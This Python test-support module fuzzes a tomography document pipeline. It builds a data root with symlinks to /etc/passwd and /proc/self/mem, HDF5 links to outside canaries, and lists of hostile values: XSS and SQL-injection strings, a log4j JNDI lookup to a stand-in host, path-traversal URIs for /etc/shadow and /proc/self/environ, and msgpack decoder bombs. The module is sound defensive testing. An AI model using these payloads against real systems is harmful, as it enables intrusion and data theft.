"""The machinery of the document fuzz tests (issue 12), shared by the in-process test
(tests/unit/test_fuzz_documents.py) and the one against a real Tiled server
(tests/system/test_fuzz_catalog.py).

* :func:`build_layout`: one data root holding the detector files of two real runs
  (a step scan and a fly scan) plus hostile files (symlinks out, HDF5 links out, a FIFO,
  ...), and beside it, outside the root, canary files that look exactly like detector
  files, so that a read that escapes would succeed instead of failing loudly.
* strategies: the recorded runs mutated with hostile values, random documents, raw bytes.
* :class:`WorkerLoop`: the per-message decisions of ``run_worker`` (decode, key the run,
  skip, handle, dead-letter, close runs without a stop), without Kafka.
* :class:`OpenRecord`: every file opened while documents are handled: Python-level opens
  (an audit hook), ``h5py.File`` (HDF5 opens below Python), and inotify on the canaries'
  directory, which sees opens by any code in any process (the HDF5 library, a Tiled server).
"""

from __future__ import annotations

import copy
import ctypes
import ctypes.util
import os
import shutil
import signal
import struct
import sys
import threading
import time
import uuid
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import h5py
import msgpack
import numpy as np
from hypothesis import strategies as st

from tomobluesky._errors import is_transient
from tomobluesky.transport._codec import CodecError, pack
from tomobluesky.transport._consumer import no_stop_document
from tomobluesky.transport._decode import DOCUMENT_NAMES, Malformed, decode_document
from tomobluesky.transport._keys import RunKeys

DATASETS = ("/exchange/data", "/exchange/data_white", "/exchange/data_dark", "/exchange/theta")


# --- the data root, its hostile files, the canaries outside --------------------------------------------------

@dataclass
class Layout:
    base: Path
    root: Path  # the only data root
    outside: Path  # canaries: detector-like files no document may reach
    volumes: Path  # where MemorySinks write their Zarr stores
    runs: dict  # "step" / "fly" → [(name, doc)] as the RunEngine emitted them
    detector_files: list
    packed: dict = field(default_factory=dict)  # "step" / "fly" → the runs' messages
    valid_messages: frozenset = frozenset()  # every message of the recorded runs
    message_list: list = field(default_factory=list)
    documents: list = field(default_factory=list)  # every (name, doc) of the recorded runs
    values: object = None  # the layout's strategies (Values), made when first needed

    @property
    def hostile_files(self) -> dict:
        """Name → path of the hostile entries made inside the root."""
        return {p.name: p for p in self.root.iterdir() if p.name.startswith("hostile-")}


def record_runs(write_dir: Path, num_projections: int = 2) -> dict:
    """The documents of a real step scan and a real fly scan of a tiny phantom, frames written to ``write_dir``."""
    from bluesky import RunEngine

    from tomobluesky.devices import PhantomSource, make_sim_beamline
    from tomobluesky.plans import tomo_fly_scan, tomo_scan

    runs = {}
    for kind, plan, extra in (("step", tomo_scan, {}), ("fly", tomo_fly_scan, {"velocity": 1800.0})):
        engine = RunEngine({}, call_returns_result=False)
        docs = []
        engine.subscribe(lambda name, doc: docs.append((name, doc)))
        source = PhantomSource(n_slices=2, n_columns=16, noise=False)
        engine(plan(*make_sim_beamline(source, write_dir), num_projections=num_projections, num_darks=1,
                    num_flats=1, **extra))
        runs[kind] = docs
    return runs


def build_layout(base: Path, root: Path | None = None) -> Layout:
    base = Path(base)
    root = Path(root) if root is not None else base / "detector"
    outside, volumes = base / "outside", base / "volumes"
    for d in (root, outside, volumes):
        d.mkdir(parents=True, exist_ok=True)
    runs = record_runs(root)
    detector_files = sorted({Path(uri_of(doc)) for docs in runs.values() for name, doc in docs
                             if name == "stream_resource"})
    # canaries: byte copies of the real detector files, so any escape would read valid frames
    for i, f in enumerate(detector_files):
        shutil.copy(f, outside / f"canary-{i}.h5")
    canary = outside / "canary-0.h5"
    frames = np.ones((4, 2, 16), dtype=np.float32)
    (outside / "raw.bin").write_bytes(frames.tobytes())
    (outside / "sub").mkdir(exist_ok=True)
    shutil.copy(canary, outside / "sub" / "canary.h5")
    _hostile_files(root, outside, canary, frames)
    layout = Layout(base, root, outside, volumes, runs, detector_files)
    layout.packed = {kind: [pack(name, doc) for name, doc in docs] for kind, docs in runs.items()}
    layout.message_list = [m for messages in layout.packed.values() for m in messages]
    layout.valid_messages = frozenset(layout.message_list)
    layout.documents = [item for docs in runs.values() for item in docs]
    return layout


def _hostile_files(root: Path, outside: Path, canary: Path, frames: np.ndarray) -> None:
    h = "hostile-"
    links = {"link-file.h5": canary, "link-dir": outside, "link-dangling.h5": outside / "missing.h5",
             "link-passwd": Path("/etc/passwd"), "link-mem": Path("/proc/self/mem"), "link-zero": Path("/dev/zero"),
             "link-loop-a": root / f"{h}link-loop-b", "link-loop-b": root / f"{h}link-loop-a"}
    for name, target in links.items():
        os.symlink(target, root / f"{h}{name}")
    os.mkfifo(root / f"{h}fifo.h5")
    (root / f"{h}notes.h5").write_text("not an HDF5 file\n")
    (root / f"{h}empty.h5").write_bytes(b"")
    (root / f"{h}dir.h5").mkdir()
    with h5py.File(root / f"{h}ext-link.h5", "w") as f:  # every dataset an external link to the canary
        for ds in DATASETS:
            f[ds] = h5py.ExternalLink(str(canary), ds)
    with h5py.File(root / f"{h}ext-group.h5", "w") as f:  # the group on the way is the external link
        f["exchange"] = h5py.ExternalLink(str(canary), "/exchange")
    with h5py.File(root / f"{h}soft-to-ext.h5", "w") as f:  # a soft link whose target is an external link
        f["elsewhere"] = h5py.ExternalLink(str(canary), "/exchange")
        for ds in DATASETS:
            f[ds] = h5py.SoftLink("/elsewhere/" + ds.rsplit("/", 1)[1])
    with h5py.File(root / f"{h}soft-loop.h5", "w") as f:
        f["exchange/data"] = h5py.SoftLink("/exchange/data_white")
        f["exchange/data_white"] = h5py.SoftLink("/exchange/data")
    with h5py.File(root / f"{h}ext-storage.h5", "w") as f:  # raw bytes stored outside
        for ds in DATASETS:
            f.create_dataset(ds, shape=frames.shape, dtype=frames.dtype,
                             external=[(str(outside / "raw.bin"), 0, frames.nbytes)])
    with h5py.File(root / f"{h}virtual.h5", "w") as f:  # frames mapped from the canary
        for ds in DATASETS[:3]:
            vl = h5py.VirtualLayout(shape=(1, 2, 16), dtype=np.float32)
            vl[:] = h5py.VirtualSource(str(canary), ds, shape=(1, 2, 16))
            f.create_virtual_dataset(ds, vl)
    with h5py.File(root / f"{h}odd-shapes.h5", "w") as f:  # inside the root, valid HDF5, wrong contents
        f["exchange/data"] = np.zeros((3, 2, 15), dtype=np.float32)
        f["exchange/data_white"] = np.full((1, 2, 16), np.nan, dtype=np.float32)
        f["exchange/data_dark"] = np.array([b"text", b"frames"])
        f["exchange/theta"] = np.zeros((0,))


def uri_of(resource: dict) -> str:
    from urllib.parse import urlparse

    return urlparse(resource["uri"]).path


# --- hostile values ----------------------------------------------------------------------------------------------
# Strategies are built once (module level, or once per layout in :class:`Values`): building them inside
# every draw cost more than handling the documents.

INT64 = st.integers(-(2 ** 63), 2 ** 64 - 1)  # what msgpack can carry
BIG_STRINGS = ["A" * 100_000, "é" * 50_000, "\U0001f4a5" * 30_000, "../" * 30_000, "%" * 100_000]
HOSTILE_STRINGS = [
    "", " ", "\x00", "a\x00b", "\n\r\t", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)", "'; DROP TABLE nodes; --", "${jndi:ldap://evil/x}", "{{7*7}}", "%s%s%n%x", "\u202egnp.exe",
    "\ufeff", "Ａ", "\u0000\u0001\u001f", "../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "~", ".", "..",
    "CON", "NUL", "*", "?", "[", "\\", "\\\\server\\share", "null", "None", "NaN", "true", "0", "-1", "1e309",
    "scan/../../x", "a" * 300, "💥", "ɐ", "ÿ\u0085\u2028",
]
NUMBERS = [0, -1, 1, 2, 3, 16, 17, -16, 2 ** 31, -(2 ** 31), 2 ** 63 - 1, -(2 ** 63), 2 ** 64 - 1, 10 ** 12, -(10 ** 12),
           0.0, -0.0, 0.5, 1.5, -2.5, 1e-300, 1e300, float("nan"), float("inf"), float("-inf")]


def _any(max_leaves: int):
    """Anything msgpack carries: None, bools, 64-bit ints, floats (NaN too), text, bytes, lists, maps (int keys too)."""
    leaves = (st.none() | st.booleans() | INT64 | st.floats() | st.text(max_size=8) | st.binary(max_size=8)
              | st.sampled_from(HOSTILE_STRINGS) | st.sampled_from(NUMBERS))
    return st.recursive(leaves, lambda children: st.lists(children, max_size=3)
                        | st.dictionaries(st.text(max_size=4) | st.integers(-3, 3), children, max_size=3),
                        max_leaves=max_leaves)


ANY3, ANY4, ANY6, ANY8 = (_any(n) for n in (2, 3, 4, 5))
STRINGS = st.sampled_from(HOSTILE_STRINGS) | st.sampled_from(BIG_STRINGS) | st.text(max_size=16)
INTS = st.sampled_from(NUMBERS) | st.integers(-20, 40) | INT64 | st.sampled_from(["1", "", "0x10", None, [1], {"a": 1}])
_DIM = st.sampled_from([0, 1, 2, 16, -1, -16, 10 ** 12, 2 ** 63 - 1, 1.5, float("nan"), "16", None])
SHAPES = (st.lists(_DIM, max_size=4)
          | st.sampled_from([[], [2], [2, 16], [16, 2], [2, 16, 1], [1, 2, 16], [[2], [16]], [10 ** 12, 10 ** 12],
                             [2, 10 ** 12], [0, 0], "2x16", None, {}])
          | st.lists(st.integers(-2, 20), min_size=2, max_size=2))
ANGLES = (st.lists(st.floats() | st.sampled_from(NUMBERS) | st.sampled_from(["0", None, [0.0]]), max_size=12)
          | st.builds(lambda n, v: [v] * n, st.sampled_from([0, 1, 2, 3, 1000, 20_000]),
                      st.sampled_from([0.0, float("nan"), float("inf"), 1e300, 90.0]))
          | ANY6)
DATASET_NAMES = (st.sampled_from(list(DATASETS) + ["", "/", ".", "..", "/exchange", "/exchange/", "//exchange//data",
                                                   "/exchange/./data", "/exchange/../exchange/data", "exchange/data",
                                                   "/nope", "/exchange/data/x", "\x00", "/exchange/data\x00",
                                                   "a" * 100_000, "/elsewhere", "/elsewhere/data"])
                 | STRINGS | st.sampled_from([None, 0, 1.5, ["/exchange/data"], {"a": 1}, b"/exchange/data"]))
KEYS = STRINGS | st.integers(-5, 5) | st.sampled_from(["uid", "__proto__", "$ref", "constructor"])
GARBAGE = st.dictionaries(st.text(max_size=6) | st.sampled_from(["uid", "run_start", "descriptor", "uri"]), ANY4,
                          max_size=4)
NAMES = st.sampled_from(sorted(DOCUMENT_NAMES))
RENAMES = st.sampled_from(sorted(DOCUMENT_NAMES) + ["bulk_events", "Start", ""])
UID_LINKS = st.sampled_from(["uid", "run_start", "descriptor", "stream_resource"])
POOL = st.sampled_from(["u1", "u2", "u3"])
DATA_KEYS = st.dictionaries(
    st.sampled_from(["camera_image", "camera_theta", "rotation", "x"]),
    st.fixed_dictionaries({"source": st.just("sim"),
                           "dtype": st.sampled_from(["array", "number", "string", "integer", "boolean"]),
                           "shape": SHAPES}, optional={"external": st.just("STREAM:")}),
    max_size=2)
NUMPY_PAYLOAD = st.fixed_dictionaries({  # msgpack-numpy's map layout with hostile dtypes, shapes and buffers
    b"nd": st.sampled_from([True, False, 1, None]),
    b"type": st.sampled_from(["<f8", "|O", "O", "V8", "<U4", "garbage", "<f8" * 10, 5, None, [["a", "<f8"]],
                              [["a", "|O"]], [[1, 2, 3]], b"<f4"]),
    b"kind": st.sampled_from([b"", b"O", b"V", "O", None]),
    b"shape": st.sampled_from([[1], [0], [-1], [2, 2], [10 ** 12], [2 ** 40, 2 ** 40], "x", None, []]),
    b"data": st.sampled_from([b"", b"\x00" * 8, b"\x00" * 16, b"\x80" * 7, "text", None])})
NOT_A_PAIR = ANY8 | st.sampled_from([["start"], ["start", {}, {}], {"start": {}}, "start", [{}, "start"],
                                     [b"start", {}], [None, {}], ["start", []], ["start", "doc"]])
EXTENSIONS = st.sampled_from([msgpack.ExtType(1, b"x"), msgpack.ExtType(127, b"\x00" * 12), msgpack.Timestamp(0, 0)])
DECODER_BOMBS = st.sampled_from([b"\x91" * 200_000 + b"\xc0", b"\xdd\xff\xff\xff\xff", b"\xdf\xff\xff\xff\xff",
                                 b"\xdb\xff\xff\xff\xff", b"\xc6\xff\xff\xff\xff", b"\x92\xa5start\x81" * 3])
RECON = st.fixed_dictionaries({}, optional={  # per-scan settings a start document may carry
    "algorithm": st.sampled_from(["fbp", "nufft", "gridrec", "", "FBP"]) | STRINGS,
    "center": st.sampled_from(NUMBERS) | st.floats(-100, 100), "center_method": st.sampled_from(["auto", "given", ""]),
    "filter_name": st.sampled_from(["shepp", "ramp", "none", ""]), "preview_every": INTS,
    "ring_removal": st.booleans() | ANY3, "backend": st.sampled_from(["numpy", "cupy", ""]),
    "phase_retrieval": st.fixed_dictionaries({}, optional={"distance": st.sampled_from(NUMBERS),
                                                           "delta_beta": st.sampled_from(NUMBERS),
                                                           "energy": st.sampled_from(NUMBERS)}) | ANY3})
STOP_STATUS = st.sampled_from(["success", "abort", "fail"]) | STRINGS
STREAM_NAMES = st.sampled_from(["primary", "dark", "flat", "baseline"]) | STRINGS


def hostile_uris(layout: Layout):
    """URIs that must never lead to a read outside the root, and a few that are fine (so mixes happen)."""
    root, outside = layout.root, layout.outside
    real = layout.detector_files[0]
    fixed = [f"file://localhost{real}", f"file://{real}", str(real), f"file://localhost{root}/./{real.name}",
             f"file://localhost{root}//{real.name}", f"file://localhost{layout.detector_files[-1]}",
             f"file://localhost{root}/../{outside.name}/canary-0.h5", f"file://localhost{outside}/canary-0.h5",
             f"file://localhost{root}/%2e%2e/{outside.name}/canary-0.h5",
             f"file://localhost{root}/..%2f{outside.name}/canary-0.h5",
             f"file://localhost{root}/%2E%2E/%2E%2E/etc/passwd", f"file://localhost{root}%2f..%2f{outside.name}",
             f"file://localhost{root}/hostile-link-dir/canary-0.h5", f"file://localhost{root}/hostile-link-dir/sub/canary.h5",
             "file:///etc/passwd", "file:///etc/shadow", "file:///proc/self/mem", "file:///proc/self/environ",
             "file:///dev/zero", "file:///dev/stdin", "/etc/passwd", "/proc/self/fd/0",
             f"file://evil.example.org{real}", f"file://127.0.0.1{real}", f"http://localhost{real}", "s3://bucket/x.h5",
             f"file://localhost{real}?x=1", f"file://localhost{real}#frag", f"file://user:pw@localhost{real}",
             f"FILE://localhost{real}", f"file:{real}", f"file:/{real}", f"file://localhost{real}\x00.txt",
             f"file://localhost{real}%00.txt", f"file://localhost{root}/" + "a" * 100_000,
             f"file://localhost{root}/" + "../" * 3000 + "etc/passwd", "detector/x.h5", "../x.h5", "~/x.h5",
             "$HOME/x.h5", "", "file://", "file:///", f"file://localhost{root}", f"file://localhost{root}/",
             f"file://localhost{root}/missing.h5", "\\\\server\\share\\x.h5", "data:,hello", "javascript:alert(1)",
             f"file://localhost{real}".encode(), None, 0, -1, 1.5, [str(real)], {"path": str(real)}, True]
    in_root = [f"file://localhost{p}" for p in sorted(layout.hostile_files.values())]
    parts = st.sampled_from(["..", ".", "", "%2e%2e", "%2E.", outside.name, "canary-0.h5", real.name, "etc", "passwd",
                             "hostile-link-dir", "hostile-link-file.h5", "hostile-ext-link.h5", "\x00", "%00", "~"])
    built = st.lists(parts, max_size=6).map(lambda ps: f"file://localhost{root}/" + "/".join(ps))
    return st.sampled_from(in_root) | st.sampled_from(fixed) | built | STRINGS


class Values:
    """The strategies that depend on the layout (paths), built once per layout."""

    def __init__(self, layout: Layout):
        self.uris = hostile_uris(layout)
        self.old_roots = st.sampled_from(["/", str(layout.root), str(layout.outside)]) | self.uris
        self.old_paths = st.sampled_from([layout.detector_files[0].name, "../outside/canary-0.h5", "etc/passwd"]) \
            | self.uris
        specific = {"uri": self.uris, "dataset": DATASET_NAMES, "resource_path": self.uris, "root": self.uris,
                    "start": INTS, "stop": INTS, "seq_num": INTS, "num_projections": INTS, "num_darks": INTS,
                    "num_flats": INTS, "scan_id": INTS, "detector_shape": SHAPES, "shape": SHAPES,
                    "chunk_shape": SHAPES, "theta": ANGLES, "center_hint": st.sampled_from(NUMBERS),
                    "pixel_size": st.sampled_from(NUMBERS), "rotation": st.sampled_from(NUMBERS) | STRINGS,
                    "recon": RECON}
        self.by_key = {k: v | ANY4 for k, v in specific.items()}
        self.strings, self.numbers, self.lists = STRINGS | ANY4, INTS | ANY4, SHAPES | ANGLES | ANY6

    def for_key(self, key, current):
        """A hostile value for field ``key`` whose present value is ``current``."""
        if isinstance(key, str) and key in self.by_key:
            return self.by_key[key]
        if isinstance(current, str):
            return self.strings
        if isinstance(current, (int, float)) and not isinstance(current, bool):
            return self.numbers
        if isinstance(current, list):
            return self.lists
        return ANY6


def values(layout: Layout) -> Values:
    if layout.values is None:
        layout.values = Values(layout)
    return layout.values


def _choice(draw, seq):
    return seq[draw(st.integers(0, len(seq) - 1))]


#: fields a reader of each document relies on, mutated more often than the rest
HOT = {
    "start": [("uid",), ("scan_type",), ("theta",), ("num_projections",), ("num_darks",), ("num_flats",),
              ("detector_shape",), ("sample_name",), ("camera",), ("rotation",), ("recon",), ("center_hint",),
              ("pixel_size",), ("energy",), ("plan_name",), ("scan_id",), ("time",), ("theta_units",)],
    "descriptor": [("name",), ("uid",), ("run_start",), ("data_keys",), ("data_keys", "camera_image", "shape"),
                   ("data_keys", "camera_image", "external"), ("data_keys", "camera_image", "dtype"),
                   ("data_keys", "camera_theta", "dtype"), ("data_keys", "camera_theta", "external"),
                   ("data_keys", "rotation"), ("object_keys",)],
    "stream_resource": [("uri",), ("uri",), ("uri",), ("parameters", "dataset"), ("parameters", "dataset"),
                        ("parameters",), ("data_key",), ("uid",), ("run_start",), ("mimetype",),
                        ("parameters", "chunk_shape")],
    "stream_datum": [("indices", "start"), ("indices", "stop"), ("seq_nums", "start"), ("seq_nums", "stop"),
                     ("indices",), ("seq_nums",), ("stream_resource",), ("descriptor",), ("uid",)],
    "event": [("data", "rotation"), ("seq_num",), ("descriptor",), ("uid",), ("data",), ("timestamps",), ("time",)],
    "stop": [("run_start",), ("exit_status",), ("reason",), ("num_events",), ("uid",)],
}
#: the fields of each document the reconstruction reads
READS = {
    "start": [("scan_type",), ("theta",), ("num_projections",), ("detector_shape",), ("detector_shape",),
              ("rotation",), ("recon",), ("recon",), ("center_hint",), ("pixel_size",), ("uid",)],
    "descriptor": [("name",), ("data_keys", "camera_image", "shape"), ("data_keys", "camera_image", "external"),
                   ("data_keys", "camera_theta", "dtype"), ("data_keys", "rotation"), ("data_keys",), ("uid",)],
    "stream_resource": [("uri",), ("uri",), ("uri",), ("uri",), ("parameters", "dataset"), ("parameters", "dataset"),
                        ("data_key",), ("uid",), ("parameters",)],
    "stream_datum": [("indices", "start"), ("indices", "stop"), ("seq_nums", "start"), ("seq_nums", "stop"),
                     ("indices",), ("seq_nums",), ("stream_resource",), ("descriptor",)],
    "event": [("data", "rotation"), ("data", "rotation"), ("seq_num",), ("descriptor",), ("data",)],
}
#: the numbers among them: angles, shapes, counts, ranges, the centre and the settings
NUMERIC_READS = {
    "start": [("theta",), ("num_projections",), ("detector_shape",), ("recon",), ("recon",), ("center_hint",),
              ("pixel_size",)],
    "descriptor": [("data_keys", "camera_image", "shape")],
    "stream_datum": [("indices", "start"), ("indices", "stop"), ("seq_nums", "start"), ("seq_nums", "stop")],
    "event": [("data", "rotation"), ("data", "rotation"), ("seq_num",)],
}
START_KEYS = st.lists(st.sampled_from([k for k, *_ in HOT["start"]]), max_size=2)


def _paths(value, prefix=(), depth=4):
    """Every key path into nested maps and lists, up to ``depth``."""
    out = []
    if depth == 0:
        return out
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for k, v in items:
        out.append(prefix + (k,))
        out.extend(_paths(v, prefix + (k,), depth - 1))
    return out


def _set(doc, path, value):
    node = doc
    for k in path[:-1]:
        if isinstance(node, dict):
            node = node.setdefault(k, {})
        elif isinstance(node, list) and isinstance(k, int) and -len(node) <= k < len(node):
            node = node[k]
        else:
            return
        if not isinstance(node, (dict, list)):
            return
    if isinstance(node, dict):
        node[path[-1]] = value
    elif isinstance(node, list) and isinstance(path[-1], int) and -len(node) <= path[-1] < len(node):
        node[path[-1]] = value


def _get(doc, path):
    node = doc
    for k in path:
        try:
            node = node[k]
        except (KeyError, IndexError, TypeError):
            return None
    return node


def _delete(doc, path):
    parent = _get(doc, path[:-1]) if len(path) > 1 else doc
    if isinstance(parent, dict):
        parent.pop(path[-1], None)
    elif isinstance(parent, list) and isinstance(path[-1], int) and -len(parent) <= path[-1] < len(parent):
        del parent[path[-1]]


def _pick_doc(draw, docs):
    """An index into ``docs``, usually one of the documents that point at files or shape the reading."""
    if not docs:
        return None
    favoured = [i for i, (name, _) in enumerate(docs) if name in ("stream_resource", "stream_datum", "start")]
    if favoured and draw(st.booleans()):
        return _choice(draw, favoured)
    return draw(st.integers(0, len(docs) - 1))


def _pick_path(draw, name, doc):
    hot = HOT.get(name, [])
    if hot and draw(st.integers(0, 3)) > 0:
        return _choice(draw, hot)
    paths = _paths(doc)
    return _choice(draw, paths) if paths else ("uid",)


def _copy(docs, i):
    """Copy on write: the recorded runs are shared by every stream."""
    name, doc = docs[i]
    docs[i] = (name, copy.deepcopy(doc))
    return docs[i][1]


def _op_value(draw, docs, layout):
    i = _pick_doc(draw, docs)
    if i is not None:
        path = _pick_path(draw, *docs[i])
        doc = _copy(docs, i)
        _set(doc, path, draw(values(layout).for_key(path[-1], _get(doc, path))))
    return docs


def _targeted(draw, docs, layout, reads) -> int:
    """A hostile value in a field the reconstruction reads (a resource's file, a datum's ranges, the start's
    shapes, angles and settings, a descriptor's keys, an event's angle); returns where."""
    i = _choice(draw, [i for i, (name, _) in enumerate(docs) if name in reads])
    path = _choice(draw, reads[docs[i][0]])
    doc = _copy(docs, i)
    _set(doc, path, draw(values(layout).for_key(path[-1], _get(doc, path))))
    return i


def _op_delete(draw, docs, layout):
    i = _pick_doc(draw, docs)
    if i is not None:
        name, doc = docs[i]
        _delete(_copy(docs, i), _pick_path(draw, name, doc))
    return docs


def _op_extra_key(draw, docs, layout):
    i = _pick_doc(draw, docs)
    if i is not None:
        key = draw(KEYS)
        _copy(docs, i)[key] = draw(ANY8)
    return docs


def _op_reuse_uid(draw, docs, layout):
    """Point a document's uid (or one of its links) at another document's uid."""
    uids = [d.get("uid") for _, d in docs if isinstance(d.get("uid"), str)]
    i = _pick_doc(draw, docs)
    if i is not None and uids:
        key = draw(UID_LINKS)
        _copy(docs, i)[key] = _choice(draw, uids)
    return docs


def _op_drop(draw, docs, layout):
    if docs:
        del docs[draw(st.integers(0, len(docs) - 1))]
    return docs


def _op_duplicate(draw, docs, layout):
    if docs:
        i = draw(st.integers(0, len(docs) - 1))
        docs.insert(draw(st.integers(0, len(docs))), docs[i])
    return docs


def _op_move(draw, docs, layout):
    if docs:
        item = docs.pop(draw(st.integers(0, len(docs) - 1)))
        docs.insert(draw(st.integers(0, len(docs))), item)
    return docs


def _op_truncate(draw, docs, layout):
    """Stop missing, or the run cut off anywhere."""
    if docs:
        if draw(st.booleans()):
            return [(n, d) for n, d in docs if n != "stop"]
        return docs[: draw(st.integers(0, len(docs) - 1))]
    return docs


def _op_rename(draw, docs, layout):
    """A document sent under another document's name (or an unknown one)."""
    i = _pick_doc(draw, docs)
    if i is not None:
        docs[i] = (draw(RENAMES), docs[i][1])
    return docs


def _op_garbage(draw, docs, layout):
    """A document replaced (or joined) by random content under a real document name."""
    doc, name = draw(GARBAGE), draw(NAMES)
    if docs and draw(st.booleans()):
        docs[draw(st.integers(0, len(docs) - 1))] = (name, doc)
    else:
        docs.insert(draw(st.integers(0, len(docs))), (name, doc))
    return docs


def _op_old_resource(draw, docs, layout):
    """An old-style Resource (root + resource_path) and a datum for it, with hostile paths."""
    start = next((d for n, d in docs if n == "start"), {})
    v = values(layout)
    resource = {"uid": draw(st.sampled_from(["res-1", "res-2"])), "spec": "AD_HDF5", "root": draw(v.old_roots),
                "resource_path": draw(v.old_paths), "resource_kwargs": {}, "path_semantics": "posix"}
    if draw(st.booleans()):
        resource["run_start"] = start.get("uid", "")
    docs.insert(draw(st.integers(0, len(docs))), ("resource", resource))
    datum = {"datum_id": resource["uid"] + "/0", "resource": resource["uid"], "datum_kwargs": {"point_number": 0}}
    docs.insert(draw(st.integers(0, len(docs))), ("datum", datum))
    return docs


OPS = [_op_value] * 8 + [_op_delete, _op_extra_key, _op_reuse_uid, _op_drop, _op_duplicate, _op_move, _op_truncate,
                         _op_rename, _op_garbage, _op_old_resource]


@st.composite
def mutated_runs(draw, layout: Layout, max_ops: int = 4, reads: dict = READS):
    """One or two real runs with hostile mutations: values, keys, order, duplicates, drops, reused uids."""
    docs = list(layout.runs[draw(st.sampled_from(["step", "fly"]))])
    second = draw(st.sampled_from([None] * 9 + ["step", "fly", "again"]))
    if second is not None:
        other = docs if second == "again" else layout.runs[second]  # "again": the same uids twice
        if draw(st.booleans()):
            docs = docs + list(other)
        else:  # interleaved
            merged, a, b = [], list(docs), list(other)
            while a or b:
                src = a if (a and (not b or draw(st.booleans()))) else b
                merged.append(src.pop(0))
            docs = merged
    # the first mutation hits something the reconstruction reads; the others may hit anything
    first = _targeted(draw, docs, layout, reads)
    if draw(st.booleans()):  # the producer stops sending somewhere after it (the worker closes the run)
        docs = docs[: draw(st.integers(first + 1, len(docs)))]
    for _ in range(draw(st.integers(0, max_ops - 1))):
        docs = _choice(draw, OPS)(draw, docs, layout)
    return docs


@st.composite
def random_documents(draw, layout: Layout):
    """Documents shaped enough like the real ones to pass schema validation now and then, with random content;
    uids come from a tiny pool so that they link up, and a start may be a real tomography start."""
    v = values(layout)
    real_start = layout.runs["step"][0][1]
    docs = []
    for _ in range(draw(st.integers(1, 4))):
        name = draw(st.sampled_from(["start", "descriptor", "stream_resource", "stream_datum", "event", "stop",
                                     "resource", "datum", "event_page", "datum_page"]))
        uid = draw(POOL)
        if name == "start":
            doc = dict(real_start, uid=uid) if draw(st.booleans()) else {"uid": uid, "time": draw(st.floats())}
            for key in draw(START_KEYS):
                doc[key] = draw(v.for_key(key, doc.get(key)))
        elif name == "descriptor":
            doc = {"uid": uid, "run_start": draw(POOL), "time": 1.0, "data_keys": draw(DATA_KEYS),
                   "name": draw(STREAM_NAMES)}
        elif name == "stream_resource":
            doc = {"uid": uid, "run_start": draw(POOL), "mimetype": "application/x-hdf5",
                   "data_key": draw(st.sampled_from(["camera_image", "camera_theta"])), "uri": draw(v.uris),
                   "parameters": {"dataset": draw(DATASET_NAMES)}}
        elif name == "stream_datum":
            doc = {"uid": uid + "/0", "stream_resource": draw(POOL), "descriptor": draw(POOL),
                   "indices": {"start": draw(INTS), "stop": draw(INTS)},
                   "seq_nums": {"start": draw(INTS), "stop": draw(INTS)}}
        elif name == "event":
            doc = {"uid": uid, "descriptor": draw(POOL), "time": 1.0, "seq_num": draw(INTS),
                   "data": {"rotation": draw(st.sampled_from(NUMBERS) | ANY3)}, "timestamps": {"rotation": 1.0}}
        elif name == "stop":
            doc = {"uid": uid, "run_start": draw(POOL), "time": 1.0, "exit_status": draw(STOP_STATUS)}
        else:
            doc = draw(GARBAGE)
        if draw(st.integers(0, 4)) == 0:
            doc[draw(st.text(max_size=6))] = draw(ANY8)
        docs.append((name, doc))
    return docs


@st.composite
def raw_message(draw, layout: Layout):
    kind = draw(st.integers(0, 7))
    real = layout.message_list
    if kind == 0:
        return draw(st.binary(max_size=64))
    if kind == 1:  # a real message, cut, extended or with bytes flipped
        data = bytearray(_choice(draw, real))
        how = draw(st.integers(0, 2))
        if how == 0:
            return bytes(data[: draw(st.integers(0, len(data)))])
        if how == 1:
            return bytes(data) + draw(st.binary(min_size=1, max_size=8))
        for _ in range(draw(st.integers(1, 4))):
            data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
        return bytes(data)
    if kind == 2:  # well-formed msgpack that is not [name, document]
        return msgpack.packb(draw(NOT_A_PAIR), use_bin_type=True)
    if kind == 3:  # a document with numpy payloads where values go
        name, doc = _choice(draw, layout.documents)
        doc = copy.deepcopy(doc)
        _set(doc, _choice(draw, _paths(doc) or [("uid",)]), draw(NUMPY_PAYLOAD))
        return msgpack.packb([name, doc], use_bin_type=True)
    if kind == 4:  # msgpack extension types and timestamps
        return msgpack.packb(["event", {"uid": "e", "data": draw(EXTENSIONS)}], use_bin_type=True)
    if kind == 5:  # nesting and declared lengths meant to exhaust the decoder
        return draw(DECODER_BOMBS)
    if kind == 6:
        return None  # a message without a value (a tombstone)
    return _choice(draw, real)


@st.composite
def raw_streams(draw, layout: Layout):
    """Raw garbage alone, or (one time in 48: a run costs ten times more) a real run with some messages
    replaced or joined by garbage."""
    if draw(st.integers(0, 47)) != 7:  # hypothesis favours 0; a middle value is the rare one
        return draw(st.lists(raw_message(layout), min_size=1, max_size=2))
    messages = list(layout.packed[draw(st.sampled_from(["step", "fly"]))])
    for _ in range(draw(st.integers(1, 3))):
        i = draw(st.integers(0, len(messages)))
        if draw(st.booleans()) and i < len(messages):
            messages[i] = draw(raw_message(layout))
        else:
            messages.insert(i, draw(raw_message(layout)))
    return messages


def encode(docs) -> list:
    """Documents → message values as a producer sends them; what cannot be encoded is never sent."""
    out = []
    for name, doc in docs:
        try:
            out.append(pack(name, doc))
        except CodecError:
            pass
    return out


# --- the worker loop, message by message -------------------------------------------------------------------------

@dataclass
class WorkerLoop:
    """What ``run_worker`` does with each message of one partition (``DocumentConsumer.poll`` then
    ``_Worker.deliver``), and at the end what its run timeout does: a stop of its own for every run left open.

    ``decode``: message bytes → (name, doc) or Malformed. Nothing in here catches what the real loop lets
    through: an exception from ``RunKeys.key`` (not guarded there) or a ``BaseException`` ends the test."""

    handle: object
    decode: object = decode_document
    keys: RunKeys = field(default_factory=lambda: RunKeys(strict=True))
    started: set = field(default_factory=set)
    closed: set = field(default_factory=set)
    dead: list = field(default_factory=list)  # (reason, detail, document name or None)
    stalls: list = field(default_factory=list)
    handled: int = 0
    skipped: int = 0

    def feed(self, value) -> None:
        try:
            name, doc = self.decode(value)
        except Malformed as m:
            self.dead.append((m.reason, m.detail, None))
            return
        run = self.keys.key(name, doc)
        if run in self.closed:
            self.skipped += 1
            return
        if name == "start":
            self.started.add(run)
        elif run not in self.started:  # its start is not in this partition's unfinished runs
            self.skipped += 1
            return
        self._deliver(name, doc, run, synthetic=False)

